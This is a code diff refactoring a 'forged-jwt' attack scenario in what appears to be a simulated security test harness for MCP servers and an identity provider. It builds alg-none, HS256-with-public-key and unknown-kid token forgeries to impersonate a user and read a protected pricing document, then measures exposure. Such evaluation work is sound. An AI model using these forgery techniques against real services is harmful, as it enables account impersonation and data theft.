@@ -17,43 +17,56 @@ from protocols.http import HttpRequest
 from protocols.jose.jwks import JwkSet
 from protocols.jose.keys import Algorithm, SigningKey
 from protocols.oidc.discovery import discovery_url
-from scenarios.attacks.cast import stage
-from scenarios.attacks.common import check_configuration, mcp_token, measured
+from scenarios.attacks.cast import Stage
+from scenarios.attacks.common import mcp_token, measured, run_attack
+from actors.traditional.legacy_login import unsigned_token
 from scenarios.attacks.outcome import AttackOutcome
+from scenarios.attacks.traditional_stage import TraditionalStage
 
 ID = "forged-jwt"
 SERVER, DOCUMENT, IMPERSONATED = "mcp-pricing", "pricing://executive-discounts", "user:john"
 
 
 async def run(*, configuration: str, seed: int, transport: str) -> AttackOutcome:
-    check_configuration(configuration)
-    async with stage(seed=seed, transport=transport, configuration=configuration) as st:
-        delegation = await st.sign_in()
-        seen = await mcp_token(st, delegation, SERVER)
-        server = st.cast.mcp_servers[SERVER]
-        header, claims = claims_of(seen)
-        john = next(subject for subject, user in server.directory.items() if user == IMPERSONATED)
-        claims = {**claims, "sub": john}
-        # Public reconnaissance (not an attack step): the IdP's published keys.
-        network = st.runtime.network
-        metadata = (await network.send(HttpRequest.get(discovery_url(st.cast.idp.base_url)))).json()
-        published = JwkSet.from_json((await network.send(HttpRequest.get(metadata["jwks_uri"]))).json())
-        kid = header["kid"]
-        pem = published.lookup(kid).public_key.public_bytes(serialization.Encoding.PEM,
-                                                             serialization.PublicFormat.SubjectPublicKeyInfo)
-        own = SigningKey.generate(alg=Algorithm.ES256, entropy=st.runtime.entropy_for("adversary").child("forge"),
-                                  created_at=st.runtime.clock.now())
-        forgeries = {
-            "alg none": forge_unsecured(claims, typ=header.get("typ", "at+jwt")),
-            "HS256 keyed with the IdP's public key": forge_hmac_with_public_key(
-                claims, public_key_bytes=pem, kid=kid, typ=header.get("typ", "at+jwt")),
-            "own key under an unknown kid": forge_with_own_key(claims, key=own, kid="rotated-2025-02",
-                                                               typ=header.get("typ", "at+jwt")),
-        }
-        st.runtime.secrets.add(*forgeries.values())
-        exposed = 0
-        for name, token in forgeries.items():
-            response = await st.adversary.mcp_read(f"forged token ({name})", url=server.resource, token=token,
-                                                   uri=DOCUMENT)
-            exposed += len(mcp_contents(response))
-        return measured(st, attack=ID, configuration=configuration, records_exposed=exposed, unauthorised_actions=0)
+    return await run_attack(configuration=configuration, seed=seed, transport=transport, unified=unified,
+                            traditional=traditional)
+
+
+async def unified(st: Stage) -> AttackOutcome:
+    delegation = await st.sign_in()
+    seen = await mcp_token(st, delegation, SERVER)
+    server = st.cast.mcp_servers[SERVER]
+    header, claims = claims_of(seen)
+    john = next(subject for subject, user in server.directory.items() if user == IMPERSONATED)
+    claims = {**claims, "sub": john}
+    # Public reconnaissance (not an attack step): the IdP's published keys.
+    network = st.runtime.network
+    metadata = (await network.send(HttpRequest.get(discovery_url(st.cast.idp.base_url)))).json()
+    published = JwkSet.from_json((await network.send(HttpRequest.get(metadata["jwks_uri"]))).json())
+    kid = header["kid"]
+    pem = published.lookup(kid).public_key.public_bytes(serialization.Encoding.PEM,
+                                                         serialization.PublicFormat.SubjectPublicKeyInfo)
+    own = SigningKey.generate(alg=Algorithm.ES256, entropy=st.runtime.entropy_for("adversary").child("forge"),
+                              created_at=st.runtime.clock.now())
+    forgeries = {
+        "alg none": forge_unsecured(claims, typ=header.get("typ", "at+jwt")),
+        "HS256 keyed with the IdP's public key": forge_hmac_with_public_key(
+            claims, public_key_bytes=pem, kid=kid, typ=header.get("typ", "at+jwt")),
+        "own key under an unknown kid": forge_with_own_key(claims, key=own, kid="rotated-2025-02",
+                                                           typ=header.get("typ", "at+jwt")),
+    }
+    st.runtime.secrets.add(*forgeries.values())
+    exposed = 0
+    for name, token in forgeries.items():
+        response = await st.adversary.mcp_read(f"forged token ({name})", url=server.resource, token=token,
+                                               uri=DOCUMENT)
+        exposed += len(mcp_contents(response))
+    return measured(st, attack=ID, configuration="unified", records_exposed=exposed, unauthorised_actions=0)
+
+
+async def traditional(ts: TraditionalStage) -> AttackOutcome:
+    """The documents system's hand-rolled JWT check takes an unsigned token naming John."""
+    forged = unsigned_token({"sub": ts.cast.world.person("john").email})
+    ts.runtime.secrets.add(forged)
+    await ts.adversary("docs", bearer=forged).get(f"/mcp/resources?uri={DOCUMENT}")
+    return ts.measured(attack=ID, unauthorised_actions=0)
